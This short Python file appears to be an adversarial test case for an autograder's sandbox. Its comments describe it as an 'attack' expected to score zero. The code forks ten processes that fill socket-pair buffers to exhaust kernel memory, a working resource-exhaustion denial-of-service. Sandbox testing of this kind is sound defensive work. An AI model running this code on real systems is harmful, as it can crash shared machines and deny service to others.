# attack: ten processes hold 240 pairs of sockets each, full of bytes, which are the kernel's memory and no process's
# gains: the machine runs out of memory
# expect: 0 points in check-0-1
# canary: grader
# %% exercise-0-1
# include: wrong
import contextlib
import os
import socket
import time

for _ in range(10):
    if os.fork() == 0:
        held = []
        with contextlib.suppress(OSError):
            while len(held) < 240:
                held.append(socket.socketpair())
        time.sleep(1)
        for pair in held:
            for one in pair:
                with contextlib.suppress(OSError):
                    one.sendall(bytes(50_000), socket.MSG_DONTWAIT)
        time.sleep(15)
        os._exit(0)
time.sleep(15)
